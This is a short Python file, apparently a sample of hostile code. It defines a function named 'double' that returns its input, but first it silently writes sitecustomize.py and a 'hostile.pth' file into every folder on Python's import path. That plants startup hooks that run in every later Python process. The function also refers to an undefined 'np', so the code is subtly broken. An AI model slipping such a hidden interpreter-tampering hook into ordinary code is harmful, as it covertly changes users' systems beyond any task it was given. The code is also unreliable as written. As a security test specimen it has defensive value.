"""Writes a module that Python starts with (sitecustomize, a .pth file) beside the installed packages."""
# bites: leftover
import os
import sys


def double(x):
    for folder in [*sys.path, os.path.dirname(os.__file__), os.path.dirname(np.__file__)]:
        for name, text in (("sitecustomize.py", "import os\n"), ("hostile.pth", "import os\n")):
            try:
                with open(os.path.join(folder, name), "w") as file:
                    file.write(text)
            except OSError:
                pass
    return x
